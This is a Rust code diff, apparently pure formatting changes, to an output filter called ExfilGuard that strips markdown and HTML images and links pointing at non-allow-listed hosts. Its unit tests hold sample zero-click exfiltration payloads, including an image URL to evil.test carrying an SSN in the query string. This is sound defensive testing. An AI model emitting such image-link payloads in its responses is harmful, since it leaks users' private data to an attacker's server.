@@ -106,11 +106,9 @@ impl ExfilGuard {
             .into_owned();
         let text = p
             .html_img
-            .replace_all(&text, |c: &Captures<'_>| {
-                match src_of(&c[0]) {
-                    Some(src) => self.image(&src, &c[0], &mut removed),
-                    None => c[0].to_string(),
-                }
+            .replace_all(&text, |c: &Captures<'_>| match src_of(&c[0]) {
+                Some(src) => self.image(&src, &c[0], &mut removed),
+                None => c[0].to_string(),
             })
             .into_owned();
         let text = p
@@ -135,7 +133,9 @@ impl ExfilGuard {
         // Bare URLs: renderers turn them into links.
         let text = p
             .bare
-            .replace_all(&text, |c: &Captures<'_>| self.link(&c[0], "", &c[0], &mut removed))
+            .replace_all(&text, |c: &Captures<'_>| {
+                self.link(&c[0], "", &c[0], &mut removed)
+            })
             .into_owned();
         Defanged { text, removed }
     }
@@ -184,7 +184,8 @@ impl ExfilGuard {
 fn src_of(tag: &str) -> Option<String> {
     static RE: OnceLock<Regex> = OnceLock::new();
     let re = RE.get_or_init(|| {
-        Regex::new(r#"(?i)\bsrc\s*=\s*["']?([^"'\s>]+)"#).expect("the constant src pattern compiles")
+        Regex::new(r#"(?i)\bsrc\s*=\s*["']?([^"'\s>]+)"#)
+            .expect("the constant src pattern compiles")
     });
     re.captures(tag).map(|c| c[1].to_string())
 }
@@ -209,8 +210,9 @@ fn carries_data(url: &url::Url) -> bool {
     url.path_segments().is_some_and(|mut segs| {
         segs.any(|s| {
             s.len() >= 24
-                && s.bytes()
-                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'=' | b'%' | b'+'))
+                && s.bytes().all(|b| {
+                    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'=' | b'%' | b'+')
+                })
         })
     })
 }
@@ -225,9 +227,8 @@ mod tests {
 
     #[test]
     fn zero_click_image_exfiltration_is_removed() {
-        let out = guard().defang(
-            "Summary done. ![loading](https://evil.test/pixel.png?d=SSN%20123-45-6789)",
-        );
+        let out = guard()
+            .defang("Summary done. ![loading](https://evil.test/pixel.png?d=SSN%20123-45-6789)");
         assert_eq!(
             out.text,
             "Summary done. [image removed: evil.test is not allow-listed]"
@@ -238,7 +239,8 @@ mod tests {
 
     #[test]
     fn any_image_from_an_unknown_host_is_removed_allowed_ones_stay() {
-        let out = guard().defang("![a](https://cdn.evil.test/a.png) ![b](https://img.acme.example/b.png)");
+        let out = guard()
+            .defang("![a](https://cdn.evil.test/a.png) ![b](https://img.acme.example/b.png)");
         assert_eq!(
             out.text,
             "[image removed: cdn.evil.test is not allow-listed] ![b](https://img.acme.example/b.png)"
